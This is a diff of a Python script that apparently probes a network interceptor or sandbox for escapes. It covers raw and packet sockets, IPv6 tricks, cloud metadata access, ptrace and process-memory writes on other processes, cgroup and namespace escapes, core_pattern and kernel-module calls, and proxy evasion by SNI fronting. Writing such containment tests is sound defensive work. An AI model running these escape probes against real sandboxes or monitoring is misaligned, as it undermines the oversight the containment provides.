@@ -1,328 +1,795 @@
-"""Tries one way around after the other and prints a line for each: what it is, and what came of it.
+"""Tries ways around capture, one at a time, and says what came of each.
 
-`escape.py PROXY_PORT`: each attempt aims at 192.0.2.1 or 2001:db8::1, where a sniffer listens. A line that begins with
-`OPEN` is a way that the kernel took; the sniffer has the last word.
+It reads a line of JSON for each attempt, `{"name": ..., ...}` with what the attempt must know, and answers with one:
+`done` (the kernel let it), or the `call` that failed and its `errno`. Each attempt is a process of its own, so that none
+spoils the next. What leaves is aimed at 192.0.2.1 and 2001:db8::1, where a sniffer has the last word.
+
+`escape.py once LINE` tries one and ends.
 """
 import ctypes
+import errno
+import fcntl
+import json
+import linecache
 import os
+import pty
+import re
+import select
+import signal
 import socket
+import stat
 import struct
 import sys
+import time
 
 V4, V6, MARK = "192.0.2.1", "2001:db8::1", b"interceptor-escape"
+PATIENCE = 12
 libc = ctypes.CDLL(None, use_errno=True)
+ATTEMPTS = {}
+CALLS = "accept|socket|setsockopt|connect|bind|sendto|sendmsg|send|recv|open|write|rmdir|mkdir|ioctl|execv|listdir|readlink"
 
 
-def attempt(row, what, do):
-    try:
-        said = do()
-        print(f"DONE {row} {what}: {said}", flush=True)
-    except OSError as error:
-        print(f"REFUSED {row} {what}: {error.strerror or error}", flush=True)
-    except Exception as error:  # a name this Python does not know
-        print(f"REFUSED {row} {what}: {error!r}", flush=True)
+class Refused(OSError):
+    """A refusal that the kernel did not put into an errno, or one of a raw system call."""
+
+    def __init__(self, call, number, text=None):
+        super().__init__(number, text or os.strerror(number))
+        self.call = call
+
+
+def attempt(name, *arguments):
+    def keep(function):
+        ATTEMPTS[name] = lambda given: function(given, *arguments)
+        return function
+
+    return keep
+
+
+def syscall(name, number, *arguments):
+    done = libc.syscall(number, *arguments)
+    if done < 0:
+        raise Refused(name, ctypes.get_errno())
+    return done
 
 
 def tcp(family, protocol=0):
     s = socket.socket(family, socket.SOCK_STREAM, protocol)
-    s.settimeout(3)
+    s.settimeout(2)
     return s
 
 
-def udp(family, protocol=0):
-    return socket.socket(family, socket.SOCK_DGRAM, protocol)
+def udp(family=socket.AF_INET, protocol=0):
+    s = socket.socket(family, socket.SOCK_DGRAM, protocol)
+    s.settimeout(2)
+    return s
 
 
-def fast_open():
-    return tcp(socket.AF_INET).sendto(MARK, 0x20000000, (V4, 443))
+def heard(s):
+    """What the other side says; nothing when it closes or resets, as the proxy does to what it refuses."""
+    try:
+        return repr(s.recv(100)) if s.recv(1, socket.MSG_PEEK) else "closed"
+    except (ConnectionResetError, TimeoutError) as error:
+        return type(error).__name__
 
 
-def fast_open_connect():
+def written(descriptor):
+    """Writes; the answer to an earlier packet of the same socket is no answer to this one."""
+    try:
+        return os.write(descriptor, MARK)
+    except ConnectionRefusedError:
+        return os.write(descriptor, MARK)
+
+
+# Packets.
+
+
+@attempt("fast-open")
+def fast_open(_):
+    s = tcp(socket.AF_INET)
+    s.sendto(MARK, 0x20000000, (V4, 443))
+    return heard(s)
+
+
+@attempt("fast-open-connect")
+def fast_open_connect(_):
     s = tcp(socket.AF_INET)
     s.setsockopt(socket.IPPROTO_TCP, 30, 1)
     s.connect((V4, 443))
     s.send(MARK)
-    return s.recv(100) or "closed at once"
+    return heard(s)
 
 
-def mptcp():
-    s = tcp(socket.AF_INET, 262)
-    s.connect((V4, 443))
+@attempt("mptcp", socket.SOCK_STREAM, 262)
+@attempt("sctp-stream", socket.SOCK_STREAM, 132)
+@attempt("sctp-seqpacket", socket.SOCK_SEQPACKET, 132)
+@attempt("dccp", 6, 33)
+@attempt("udp-lite", socket.SOCK_DGRAM, 136)
+@attempt("raw", socket.SOCK_RAW, 253)
+def other_protocol(_, kind, protocol):
+    s = socket.socket(socket.AF_INET, kind, protocol)
+    s.settimeout(2)
+    s.connect((V4, 9))
+    return s.send(MARK)
 
 
-def other_protocol(kind, protocol):
-    def do():
-        s = socket.socket(socket.AF_INET, kind, protocol)
-        s.settimeout(3)
-        s.connect((V4, 9))
-        return s.send(MARK)
-
-    return do
+@attempt("udp-lite-v6")
+def udp_lite(_):
+    s = udp(socket.AF_INET6, 136)
+    s.connect((V6, 9))
+    return s.send(MARK)
 
 
-def ping(family, protocol):
-    def do():
-        s = udp(family, protocol)
-        kind = 8 if family == socket.AF_INET else 128
-        return s.sendto(struct.pack(">BBHHH", kind, 0, 0, 1, 1) + MARK, (V4 if kind == 8 else V6, 0))
-
-    return do
+@attempt("raw-own-header")
+def own_header(_):
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
+    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(MARK), 1, 0, 64, 253, 0, bytes(4), socket.inet_aton(V4))
+    return s.sendto(header + MARK, (V4, 0))
 
 
-def packet():
+@attempt("ping", socket.AF_INET, 1, 8, V4)
+@attempt("ping-v6", socket.AF_INET6, 58, 128, V6)
+def ping(_, family, protocol, kind, host):
+    return udp(family, protocol).sendto(struct.pack(">BBHHH", kind, 0, 0, 1, 1) + MARK, (host, 0))
+
+
+@attempt("packet")
+def packet(_):
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
-    s.bind(("out0", 0))
-    return s.send(b"\xff" * 6 + b"\x02\0\0\0\0\x01" + b"\x08\0" + MARK)
+    names = [name for _, name in socket.if_nameindex() if name != "lo"]
+    for name in names:
+        s.bind((name, 0))
+        s.send(b"\xff" * 6 + b"\x02\0\0\0\0\x01" + b"\x08\0" + MARK)
+    return names
 
 
-def routing_header():
+@attempt("routing-header")
+def routing_header(_):
     s = udp(socket.AF_INET6)
     segments = socket.inet_pton(socket.AF_INET6, V6)
-    s.setsockopt(socket.IPPROTO_IPV6, 57, struct.pack("BBBBI", 0, 2, 4, 0, 0) + segments)
+    s.setsockopt(socket.IPPROTO_IPV6, 57, struct.pack("BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + segments)
     return s.sendto(MARK, (V6, 9))
 
 
-def source_route():
-    s = udp(socket.AF_INET)
-    s.setsockopt(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton(V4) + b"\0")
+ROUTE = b"\x83\x07\x04" + socket.inet_aton(V4) + b"\0"
+
+
+@attempt("source-route")
+def source_route(_):
+    s = udp()
+    s.setsockopt(socket.IPPROTO_IP, 4, ROUTE)
     return s.sendto(MARK, (V4, 9))
 
 
-def source_route_message():
-    s = udp(socket.AF_INET)
-    return s.sendmsg([MARK], [(socket.IPPROTO_IP, 7, b"\x83\x07\x04" + socket.inet_aton(V4) + b"\0")], 0, (V4, 9))
+@attempt("source-route-message")
+def source_route_message(_):
+    return udp().sendmsg([MARK], [(socket.IPPROTO_IP, 7, ROUTE)], 0, (V4, 9))
 
 
-def bind_device(name):
-    def do():
-        s = udp(socket.AF_INET)
-        s.setsockopt(socket.SOL_SOCKET, 25, name)
-        return s.sendto(MARK, (V4, 9))
-
-    return do
-
-
-def packet_info(index):
-    def do():
-        s = udp(socket.AF_INET)
-        return s.sendmsg([MARK], [(0, 8, struct.pack("iII", index, 0, 0))], 0, (V4, 9))
-
-    return do
+@attempt("bound-to-device")
+def bound_to_device(_):
+    s = udp()
+    name = next(name for _, name in socket.if_nameindex() if name != "lo")
+    s.setsockopt(socket.SOL_SOCKET, 25, name.encode() + b"\0")
+    return s.sendto(MARK, (V4, 9))
 
 
-def packet_info6(index):
-    def do():
-        s = udp(socket.AF_INET6)
-        return s.sendmsg([MARK], [(41, 50, bytes(16) + struct.pack("I", index))], 0, (V6, 9))
-
-    return do
-
-
-def dial(host, port=443, family=socket.AF_INET6):
-    def do():
-        s = tcp(family)
-        s.connect((host, port))
-        s.send(MARK)
-        return s.recv(100) or "closed at once"
-
-    return do
+@attempt("packet-info")
+def packet_info(_):
+    for number, name in socket.if_nameindex():
+        if name != "lo":
+            # Port 53 is redirected, and then leaves by the interface that is asked for.
+            udp().sendmsg([MARK], [(0, 8, struct.pack("iII", number, 0, 0))], 0, (V4, 53))
+    return "sent"
 
 
-def odd_family():
-    """An AF_INET address on an IPv6 socket, and an AF_UNSPEC one on an IPv4 socket."""
-    address = struct.pack("<H", socket.AF_INET) + struct.pack(">H", 9) + socket.inet_aton(V4) + bytes(8)
-    s = udp(socket.AF_INET6)
-    sent = libc.sendto(s.fileno(), MARK, len(MARK), 0, address, len(address))
-    error = os.strerror(ctypes.get_errno())
-    address = b"\0\0" + address[2:]
-    t = udp(socket.AF_INET)
-    other = libc.sendto(t.fileno(), MARK, len(MARK), 0, address, len(address))
-    if sent < 0 and other < 0:
-        raise OSError(0, error)
-    return sent, other
+@attempt("packet-info-v6")
+def packet_info6(_):
+    for number, name in socket.if_nameindex():
+        if name != "lo":
+            udp(socket.AF_INET6).sendmsg([MARK], [(41, 50, bytes(16) + struct.pack("I", number))], 0, (V6, 53))
+    return "sent"
 
 
-def datagram(family, host):
-    return lambda: udp(family).sendto(MARK, (host, 9))
+@attempt("mapped", f"::ffff:{V4}", 443)
+@attempt("compatible", f"::{V4}", 443)
+@attempt("nat64", "64:ff9b::c000:201", 443)
+@attempt("6to4", "2002:c000:201::1", 443)
+@attempt("ipv6", V6, 443)
+@attempt("ipv4", V4, 443)
+@attempt("metadata", "169.254.169.254", 80)
+@attempt("metadata-v6", "fd00:ec2::254", 80)
+def dial(_, host, port):
+    s = tcp(socket.AF_INET6 if ":" in host else socket.AF_INET)
+    s.connect((host, port))
+    s.send(MARK)
+    return heard(s)
 
 
-def connected_datagram():
-    s = udp(socket.AF_INET)
+@attempt("odd-family", socket.AF_INET6, socket.AF_INET)
+@attempt("no-family", socket.AF_INET, 0)
+def odd_family(_, family, said):
+    address = struct.pack("<H", said) + struct.pack(">H", 9) + socket.inet_aton(V4) + bytes(8)
+    s = udp(family)
+    if libc.sendto(s.fileno(), MARK, len(MARK), 0, address, len(address)) < 0:
+        raise Refused("sendto", ctypes.get_errno())
+    return "sent"
+
+
+@attempt("multicast", socket.AF_INET, ("224.0.0.99", 9))
+@attempt("broadcast", socket.AF_INET, ("255.255.255.255", 9))
+@attempt("link-local", socket.AF_INET6, ("fe80::99", 9))
+@attempt("datagram", socket.AF_INET, (V4, 9))
+@attempt("datagram-v6", socket.AF_INET6, (V6, 9))
+@attempt("quic", socket.AF_INET, (V4, 443))
+def datagram(_, family, to):
+    s = udp(family)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+    if to[0].startswith("fe80"):
+        to = (*to, 0, max(number for number, name in socket.if_nameindex() if name != "lo"))
+    return s.sendto(MARK, to)
+
+
+@attempt("connected-datagram")
+def connected_datagram(_):
+    s = udp()
     s.connect((V4, 443))
     return s.send(MARK)
 
 
-def repair():
+@attempt("repair")
+def repair(_):
     s = tcp(socket.AF_INET)
     s.setsockopt(socket.IPPROTO_TCP, 19, 1)
+    s.bind(("0.0.0.0", 0))
     s.connect((V4, 443))
+    s.setsockopt(socket.IPPROTO_TCP, 19, 0)
     return s.send(MARK)
 
 
-def inherited():
-    """Every descriptor beyond the standard three, and sockets among those three."""
-    found = []
-    for entry in os.listdir("/proc/self/fd"):
+@attempt("listen")
+def listen(given):
+    s = tcp(socket.AF_INET)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("0.0.0.0", given["port"]))
+    s.listen()
+    return f"reached from {s.accept()[1][0]}"
+
+
+@attempt("smc", 43)
+@attempt("rds", 21, socket.SOCK_SEQPACKET)
+@attempt("kcm", 41, socket.SOCK_DGRAM)
+@attempt("alg", 38, socket.SOCK_SEQPACKET)
+@attempt("xdp", 44, socket.SOCK_RAW)
+@attempt("vsock", 40)
+@attempt("bluetooth", 31, socket.SOCK_SEQPACKET)
+@attempt("can", 29, socket.SOCK_RAW)
+@attempt("qipcrtr", 42, socket.SOCK_DGRAM)
+@attempt("tipc", 30)
+@attempt("nfc", 39)
+@attempt("x25", 9, socket.SOCK_SEQPACKET)
+@attempt("ppp", 24, socket.SOCK_DGRAM)
+@attempt("rxrpc", 33, socket.SOCK_DGRAM)
+@attempt("ieee802154", 36, socket.SOCK_DGRAM)
+@attempt("netlink-netfilter", 16, socket.SOCK_RAW, 12)
+@attempt("netlink-audit", 16, socket.SOCK_RAW, 9)
+def family(_, number, kind=socket.SOCK_STREAM, protocol=0):
+    socket.socket(number, kind, protocol)
+    return "a socket"
+
+
+@attempt("mount-network")
+def mount_network(given):
+    # Any file system will do: what may mount this may mount those of other hosts.
+    syscall("mount", 165, b"escape", given["folder"].encode(), b"tmpfs", 0, 0)
+    syscall("umount", 166, given["folder"].encode(), 2)
+    return "mounted"
+
+
+@attempt("tun")
+def tun(_):
+    device = os.open("/dev/net/tun", os.O_RDWR)
+    fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"ic-escape", 1))
+    return "an interface"
+
+
+@attempt("new-interface")
+def new_interface(_):
+    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+    kind = struct.pack("HH", 9, 1) + b"veth\0\0\0\0"
+    info = struct.pack("HH", 4 + len(kind), 18) + kind
+    body = struct.pack("BxHiII", 0, 0, 0, 0, 0xFFFFFFFF) + info
+    s.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
+    code = struct.unpack_from("i", s.recv(4096), 16)[0]
+    if code:
+        raise Refused("RTM_NEWLINK", -code)
+    return "an interface"
+
+
+# Where sockets come from, and who uses them.
+
+
+@attempt("inherited")
+def inherited(_):
+    sent = []
+    for number in range(3, 256):
         try:
-            target = os.readlink(f"/proc/self/fd/{entry}")
-        except OSError:
-            continue
-        if target.startswith("socket:") or (int(entry) > 2 and not target.startswith("/proc/")):
-            found.append(f"{entry}={target}")
-    if not found:
-        raise OSError(0, "none")
-    return found
-
-
-def io_uring():
-    number = 425
-    parameters = ctypes.create_string_buffer(120)
-    ring = libc.syscall(number, 4, parameters)
-    if ring < 0:
-        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
-    # A ring alone sends nothing; what it sends meets the same hooks. The sniffer decides.
-    os.close(ring)
-    raise OSError(0, "a ring exists; its connects meet the same hooks")
-
-
-def move_out():
-    for base in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
-        path = os.path.join(base, "cgroup.procs")
-        if os.path.exists(path):
-            with open(path, "w") as file:
-                file.write(str(os.getpid()))
-            return path
-    raise OSError(0, "no cgroup folder to write to")
-
-
-def local_socket():
-    found = []
-    for folder in sys.argv[2:] + ["/var/run/postgresql", "/run/postgresql", "/var/run/mysqld", "/var/run/redis"]:
-        for name in os.listdir(folder) if os.path.isdir(folder) else []:
-            s = socket.socket(socket.AF_UNIX)
-            try:
-                s.connect(os.path.join(folder, name))
-                found.append(os.path.join(folder, name))
-            except OSError:
-                pass
-    if not found:
-        raise OSError(0, "no local socket answers")
-    return found
-
-
-def deputies():
-    found = []
-    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
-                 "/run/systemd/resolve/io.systemd.Resolve", "/run/containerd/containerd.sock"):
-        s = socket.socket(socket.AF_UNIX)
-        try:
-            s.connect(path)
-            found.append(path)
+            if stat.S_ISSOCK(os.fstat(number).st_mode):
+                sent.append(written(number))
         except OSError:
             pass
-    if not found:
-        raise OSError(0, "none answers")
-    return found
+    if not sent:
+        raise Refused("write", errno.EBADF)
+    return sent
 
 
-def take_port():
+@attempt("standard-input")
+def standard_input(_):
+    target = os.readlink("/proc/self/fd/0")
+    if not target.startswith("socket:"):
+        raise Refused("write", errno.EBADF, target)
+    return written(0)
+
+
+@attempt("unix")
+def unix(given):
+    """Connects to a process outside, takes the socket that it passes, and sends over that."""
+    path = given["path"]
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(2)
+    s.connect("\0" + path[1:] if path.startswith("@") else path)
+    _, descriptors, _, _ = socket.recv_fds(s, 100, 4)
+    return [written(descriptor) for descriptor in descriptors]
+
+
+@attempt("unix-connect")
+def unix_connect(given):
+    s = socket.socket(socket.AF_UNIX, given.get("kind", socket.SOCK_STREAM))
+    s.settimeout(2)
+    s.connect(given["path"])
+    return "connected"
+
+
+@attempt("take-descriptor")
+def take_descriptor(given):
+    handle = syscall("pidfd_open", 434, given["pid"], 0)
+    for number in range(3, 64):
+        descriptor = libc.syscall(438, handle, number, 0)
+        if descriptor >= 0:
+            return os.readlink(f"/proc/self/fd/{descriptor}")
+    raise Refused("pidfd_getfd", ctypes.get_errno())
+
+
+@attempt("trace")
+def trace(given):
+    if libc.ptrace(0x4206, given["pid"], 0, 0) < 0:
+        raise Refused("ptrace", ctypes.get_errno())
+    libc.ptrace(17, given["pid"], 0, 0)
+    return "attached"
+
+
+@attempt("inject")
+def inject(given):
+    word = ctypes.create_string_buffer(8)
+    own = (ctypes.c_uint64 * 2)(ctypes.addressof(word), 1)
+    # An address that nobody has: EFAULT says that it was allowed to try.
+    theirs = (ctypes.c_uint64 * 2)(8, 1)
+    if libc.syscall(311, given["pid"], own, 1, theirs, 1, 0) < 0 and ctypes.get_errno() != errno.EFAULT:
+        raise Refused("process_vm_writev", ctypes.get_errno())
+    return "allowed"
+
+
+@attempt("memory")
+def memory(given):
+    os.close(os.open(f"/proc/{given['pid']}/mem", os.O_RDWR))
+    return "opened"
+
+
+@attempt("kill")
+def kill(given):
+    try:
+        os.kill(given["pid"], 0)
+    except OSError as error:
+        raise Refused("kill", error.errno)
+    return "could be signalled"
+
+
+@attempt("io-uring")
+def io_uring(_):
+    os.close(syscall("io_uring_setup", 425, 4, ctypes.create_string_buffer(120)))
+    return "a ring"
+
+
+@attempt("binder")
+def binder(_):
+    return os.open("/dev/binder", os.O_RDWR)
+
+
+@attempt("another-cgroup")
+def another_cgroup(given):
+    worst = None
+    for path in dict.fromkeys([given["cgroup"] + "/cgroup.procs", "/sys/fs/cgroup/cgroup.procs",
+                               "/sys/fs/cgroup/unified/cgroup.procs"]):
+        try:
+            file = os.open(path, os.O_WRONLY)
+            os.write(file, str(os.getpid()).encode())
+            return path
+        except OSError as error:
+            worst = worst or error
+            if error.errno != errno.ENOENT:
+                worst = error
+    raise Refused("open", worst.errno)
+
+
+@attempt("born-in-another-cgroup")
+def born_elsewhere(given):
+    folder = os.open(given["cgroup"], os.O_RDONLY | os.O_DIRECTORY)
+    arguments = (ctypes.c_uint64 * 11)(0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, folder)
+    child = syscall("clone3", 435, arguments, 88)
+    if child == 0:
+        os._exit(0)
+    os.waitpid(child, 0)
+    return "born"
+
+
+@attempt("mount-cgroup")
+def mount_cgroup(given):
+    syscall("mount", 165, b"cgroup2", given["folder"].encode(), b"cgroup2", 0, 0)
+    syscall("umount", 166, given["folder"].encode(), 2)
+    return "mounted"
+
+
+@attempt("own-cgroup-is-delegated")
+def delegated(_):
+    last = OSError(errno.ENOENT, "no cgroup is to be seen")
+    for folder, _, files in os.walk("/sys/fs/cgroup"):
+        for name in files:
+            if name in ("cgroup.procs", "cgroup.threads", "cgroup.subtree_control"):
+                try:
+                    os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
+                    return os.path.join(folder, name)
+                except OSError as error:
+                    last = OSError(error.errno, error.strerror)
+    raise Refused("open", last.errno)
+
+
+@attempt("legacy-cgroup")
+def legacy_cgroup(_):
+    for line in open("/proc/self/mountinfo"):
+        if "net_cls" in line or "net_prio" in line:
+            folder = os.path.join(line.split()[4], "ic-escape")
+            os.mkdir(folder)
+            os.rmdir(folder)
+            return folder
+    raise Refused("open", errno.ENOENT, "no legacy controller is to be seen")
+
+
+@attempt("set-user-id")
+def set_user_id(given):
+    """Whether a program that is set-user-id root makes us more than we are."""
+    def rights(text):
+        return int(re.search(r"CapEff:\s*(\w+)", text)[1], 16)
+
+    own = rights(open("/proc/self/status").read())
+    out, into = os.pipe()
+    if os.fork() == 0:
+        os.dup2(into, 1)
+        os.execv(given["program"], ["cat", "/proc/self/status"])
+    os.close(into)
+    theirs = rights(os.read(out, 65536).decode())
+    if theirs & ~own == 0:
+        raise Refused("execve", errno.EPERM, "nothing was gained")
+    return f"{theirs:x}"
+
+
+@attempt("user-namespace", 0x10000000 | 0x40000000)
+@attempt("mount-namespace", 0x00020000)
+def namespace(_, flags):
+    syscall("unshare", 272, flags)
+    return "a namespace"
+
+
+@attempt("user-namespace-clone")
+def namespace_clone(_):
+    child = syscall("clone", 56, 0x10000000 | 17, 0, 0, 0, 0)
+    if child == 0:
+        os._exit(0)
+    os.waitpid(child, 0)
+    return "a namespace"
+
+
+@attempt("user-namespace-clone3")
+def namespace_clone3(_):
+    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
+    child = syscall("clone3", 435, arguments, 88)
+    if child == 0:
+        os._exit(0)
+    os.waitpid(child, 0)
+    return "a namespace"
+
+
+@attempt("host-namespace")
+def host_namespace(given):
+    """By a process of the host's, which a run does not see, or by the first of its own."""
+    pid = given["outside"] if os.path.exists(f"/proc/{given['outside']}") else 1
+    file = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
+    syscall("setns", 308, file, 0)
+    return "entered"
+
+
+@attempt("terminal")
+def terminal(_):
+    """Types into a terminal that is our own, which is allowed nowhere in a run."""
+    child, master = pty.fork()
+    if child == 0:
+        try:
+            fcntl.ioctl(0, 0x5412, b"x")
+            os._exit(0)
+        except OSError as error:
+            os._exit(error.errno)
+    _, status = os.waitpid(child, 0)
+    if os.waitstatus_to_exitcode(status):
+        raise Refused("TIOCSTI", os.waitstatus_to_exitcode(status))
+    return "typed"
+
+
+@attempt("keyring")
+def keyring(_):
+    return syscall("keyctl", 250, 0, -4, 1)
+
+
+@attempt("local-service")
+def local_service(given):
+    s = tcp(socket.AF_INET)
+    s.connect(("127.0.0.1", given["port"]))
+    s.send(MARK)
+    said = heard(s)
+    if "host" not in said:
+        raise Refused("recv", errno.ECONNRESET, said)
+    return said
+
+
+@attempt("zero")
+def zero(given):
+    s = tcp(socket.AF_INET)
+    s.connect(("0.0.0.0", given["port"]))
+    s.send(MARK)
+    said = heard(s)
+    if "host" not in said:
+        raise Refused("recv", errno.ECONNRESET, said)
+    return said
+
+
+@attempt("zero-v6")
+def zero6(given):
+    s = tcp(socket.AF_INET6)
+    s.connect(("::ffff:0.0.0.0", given["port"]))
+    s.send(MARK)
+    said = heard(s)
+    if "host" not in said:
+        raise Refused("recv", errno.ECONNRESET, said)
+    return said
+
+
+# The interceptor itself.
+
+
+@attempt("take-port")
+def take_port(given):
     s = socket.socket()
     s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
-    s.bind(("127.0.0.1", int(sys.argv[1])))
+    s.bind(("127.0.0.1", given["proxy"]))
     s.listen()
     return "bound"
 
 
-def bpf():
-    # BPF_PROG_GET_NEXT_ID and BPF_OBJ_GET.
-    for command in (11, 7):
-        attributes = ctypes.create_string_buffer(128)
-        if libc.syscall(321, command, attributes, 128) >= 0:
-            return f"command {command}"
-    if os.path.isdir("/sys/fs/bpf") and os.listdir("/sys/fs/bpf"):
-        return os.listdir("/sys/fs/bpf")
-    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+@attempt("bpf")
+def bpf(_):
+    return syscall("bpf", 321, 11, ctypes.create_string_buffer(128), 128)
 
 
-def remove_cgroup():
-    for folder, _, _ in os.walk("/sys/fs/cgroup"):
-        if "interceptor" in folder:
-            os.rmdir(folder)
-            return folder
-    raise OSError(0, "no cgroup to remove")
+@attempt("pins")
+def pins(given):
+    return os.listdir(given["pins"])
 
 
-def user_namespace():
-    if libc.unshare(0x10000000 | 0x40000000) != 0:
-        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
-    return udp(socket.AF_INET).sendto(MARK, (V4, 9))
+@attempt("remove-cgroup")
+def remove_cgroup(given):
+    # Not empty outside, and not to be seen inside: EBUSY is as far as anybody gets who may.
+    try:
+        os.rmdir(given["slice"])
+    except OSError as error:
+        if error.errno == errno.EBUSY:
+            return "only what is in it stopped it"
+        raise
+    return "removed"
 
 
-def host_namespace():
-    file = os.open("/proc/1/ns/net", os.O_RDONLY)
-    if libc.setns(file, 0) != 0:
-        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
-    return udp(socket.AF_INET).sendto(MARK, (V4, 9))
+@attempt("flood")
+def flood(_):
+    sockets, refused = [], 0
+    for _ in range(900):
+        s = udp()
+        s.connect((V4, 53))
+        sockets.append(s)
+    for s in sockets:
+        try:
+            s.send(MARK)
+        except OSError:
+            refused += 1
+    return f"{len(sockets)} sockets, {refused} refused"
 
 
-def family(number, kind=socket.SOCK_STREAM):
-    def do():
-        socket.socket(number, kind)
-        return "a socket"
+@attempt("proxy-itself")
+def proxy_itself(given):
+    s = tcp(socket.AF_INET)
+    s.connect(("127.0.0.1", given["proxy"]))
+    s.send(MARK)
+    said = heard(s)
+    if said.startswith("b"):
+        return said
+    raise Refused("recv", errno.ECONNRESET, said)
 
-    return do
+
+@attempt("read-file")
+def read_file(given):
+    with open(given["path"], "rb") as file:
+        return f"{len(file.read())} bytes"
 
 
-ROWS = [
-    (1, "fast open", fast_open),
-    (1, "fast open by connect", fast_open_connect),
-    (2, "MPTCP", mptcp),
-    (3, "SCTP stream", other_protocol(socket.SOCK_STREAM, 132)),
-    (3, "SCTP seqpacket", other_protocol(socket.SOCK_SEQPACKET, 132)),
-    (4, "DCCP", other_protocol(6, 33)),
-    (5, "UDP-Lite", other_protocol(socket.SOCK_DGRAM, 136)),
-    (6, "ping", ping(socket.AF_INET, 1)),
-    (6, "ping of IPv6", ping(socket.AF_INET6, 58)),
-    (7, "raw", other_protocol(socket.SOCK_RAW, 253)),
-    (7, "raw with its own header", other_protocol(socket.SOCK_RAW, 255)),
-    (8, "packet", packet),
-    (8, "XDP", family(44, socket.SOCK_RAW)),
-    (9, "routing header", routing_header),
-    (10, "source route", source_route),
-    (10, "source route by message", source_route_message),
-    (11, "bound to a device", bind_device(b"out0\0")),
-    (11, "bound to another device", bind_device(b"eth0\0")),
-    *[(11, f"packet info {n}", packet_info(n)) for n in (1, 2, 3)],
-    *[(11, f"packet info of IPv6 {n}", packet_info6(n)) for n in (1, 2, 3)],
-    (12, "mapped", dial(f"::ffff:{V4}")),
-    (12, "mapped loopback", dial("::ffff:127.0.0.1")),
-    (12, "NAT64", dial("64:ff9b::c000:201")),
-    (12, "6to4", dial("2002:c000:201::1")),
-    (12, "IPv6", dial(V6)),
-    (12, "IPv4", dial(V4, family=socket.AF_INET)),
-    (13, "odd families", odd_family),
-    (14, "the zero address", dial("0.0.0.0", 80, socket.AF_INET)),
-    (14, "the zero address of IPv6", dial("::", 80)),
-    (15, "multicast", datagram(socket.AF_INET, "224.0.0.1")),
-    (15, "broadcast", datagram(socket.AF_INET, "255.255.255.255")),
-    (16, "repair", repair),
-    (0, "datagram", datagram(socket.AF_INET, V4)),
-    (0, "datagram of IPv6", datagram(socket.AF_INET6, V6)),
-    (0, "connected datagram", connected_datagram),
-    (23, "sockets from before", inherited),
-    (28, "io_uring", io_uring),
-    (30, "another cgroup", move_out),
-    (35, "a user namespace", user_namespace),
-    (36, "the first process's namespace", host_namespace),
-    (38, "deputies", deputies),
-    (43, "local sockets", local_socket),
-    (52, "the proxy's port", take_port),
-    (53, "bpf()", bpf),
-    (55, "removing the cgroup", remove_cgroup),
-    (57, "the proxy itself", dial("127.0.0.1", int(sys.argv[1]), socket.AF_INET)),
-]
+@attempt("core-pattern")
+def core_pattern(_):
+    path = "/proc/sys/kernel/core_pattern"
+    text = open(path).read()
+    file = os.open(path, os.O_WRONLY)
+    os.write(file, text.encode())
+    return "written"
 
-for row in ROWS:
-    attempt(*row)
-print("all rows tried")
+
+@attempt("sysrq")
+def sysrq(_):
+    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
+    return "opened"
+
+
+@attempt("module")
+def module(_):
+    """Not a module: ENOEXEC says that it was allowed to try."""
+    if libc.syscall(175, b"not a module", 12, b"") < 0 and ctypes.get_errno() != errno.ENOEXEC:
+        raise Refused("init_module", ctypes.get_errno())
+    return "allowed"
+
+
+@attempt("device-node")
+def device_node(given):
+    path = os.path.join(given["folder"], "ic-node")
+    if os.path.exists(path):
+        os.unlink(path)
+    try:
+        os.mknod(path, 0o600 | 0o060000, os.makedev(7, 0))
+    except OSError as error:
+        raise Refused("mknod", error.errno)
+    os.unlink(path)
+    return "made"
+
+
+# Inside protocols.
+
+
+def client_hello(extensions):
+    body = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0"
+    body += struct.pack(">H", len(extensions)) + extensions
+    message = b"\x01" + struct.pack(">I", len(body))[1:] + body
+    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message
+
+
+def server_name(name):
+    entry = b"\0" + struct.pack(">H", len(name)) + name
+    listed = struct.pack(">H", len(entry)) + entry
+    return struct.pack(">HH", 0, len(listed)) + listed
+
+
+@attempt("tls", 443, client_hello(server_name(b"example.com")))
+@attempt("ech", 443, client_hello(server_name(b"example.com") + struct.pack(">HH", 0xFE0D, 8) + bytes(8)))
+@attempt("fronting", 443, client_hello(server_name(b"db.internal")))
+@attempt("no-name", 8443, client_hello(b""))
+@attempt("connect-proxy", 3128, b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n")
+@attempt("absolute-form", 3128, b"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n")
+@attempt("socks", 1080, b"\x05\x01\0")
+@attempt("http2", 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))
